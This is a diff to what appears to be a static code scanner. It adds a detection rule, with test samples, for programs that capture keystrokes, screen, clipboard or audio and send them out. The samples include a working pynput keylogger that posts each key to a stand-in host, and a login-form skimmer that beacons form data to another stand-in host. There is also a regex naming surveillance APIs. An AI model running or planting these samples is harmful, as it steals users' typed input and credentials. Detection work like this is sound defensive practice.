@@ -24,6 +24,12 @@ const formSkimmed = ruleOf(
   'programs.form-skimmed', 'network_exfiltration', 'high', 'a page’s script that sends what is typed into a login or payment form to another host, without an answer', write('public/a.js', "document.querySelector('#login').addEventListener('submit', (e) => navigator.sendBeacon('https://c.example.net/p', new FormData(e.target)))\n"),
   write('public/a.js', "navigator.sendBeacon('https://stats.example.net/v', JSON.stringify({ page: location.pathname }))\n"), `${T}T1056.003`,
 );
+const personWatched = ruleOf(
+  'programs.person-watched', 'network_exfiltration', 'high', 'program text that takes keys, screen, clipboard, camera or microphone and sends them to another host', python("from pynput import keyboard\nimport requests\nkeyboard.Listener(on_press=lambda k: requests.post('https://c.example.net/k', data=str(k))).start()"),
+  python("import pyperclip, requests\npyperclip.copy(requests.get('https://api.example.com/quote').text)"), `${T}T1056.001, T1113, T1115, T1123`,
+);
+const WATCHES = /\bpynput\b|\bkeyboard\.(?:on_press|hook|record|on_release)\b|pyautogui\.screenshot|ImageGrab\.grab|\bmss\(\)|pyperclip\.paste\(|win32clipboard|OpenClipboard|GetAsyncKeyState|SetWindowsHookEx|VideoCapture\(|sounddevice|pyaudio|CGEventTap|iohook|uiohook|GlobalKeyboardListener|screenshot-desktop|desktopCapturer|clipboard\.readText\(|node-webcam/;
+
 /** What a person types, and a request whose answer nobody reads. */
 const TYPED = /(?:FormData|addEventListener\(\s*["'](?:submit|keydown|keypress|keyup|input|change|paste)["'])[^]{0,400}(?:sendBeacon|new Image\b|no-cors|\.src\s*=)/;
 const LOGIN_FORM = /password|passwd|login|signin|sign-in|card|cvv|cvc|iban|checkout|payment|keydown|keypress|keyup/i;
@@ -42,7 +48,7 @@ const REACH = 700;
 /** Program text in which something secret and something that sends stand close together. */
 export const programExfiltration: Analyser = {
   name: 'platform.program-exfiltration',
-  rules: [environmentSent, secretFileSent, cookieSent, formSkimmed, outputSent],
+  rules: [environmentSent, secretFileSent, cookieSent, formSkimmed, personWatched, outputSent],
   roles: ['code', 'markup', 'shell'],
   literals: SINK_LITERALS,
   analyse(view) {
@@ -70,6 +76,8 @@ function judge(window: string): Found | undefined {
   if (cookies && /(?:fetch|sendbeacon|new image|\.src\s*=|xmlhttprequest|axios|location|\.open\(|websocket|post)/i.test(window)) return { rule: cookieSent, at: cookies.index, length: cookies[0].length };
   const typed = TYPED.exec(window);
   if (typed && LOGIN_FORM.test(window)) return { rule: formSkimmed, at: typed.index, length: typed[0].length };
+  const watched = WATCHES.exec(window);
+  if (watched) return { rule: personWatched, at: watched.index, length: watched[0].length };
   const file = [...window.matchAll(FILE_LITERAL)].slice(0, 16).find(([, path = '']) => isSecret(path));
   if (file) return { rule: secretFileSent, at: file.index, length: file[0].length };
   const output = OUTPUT.exec(window);
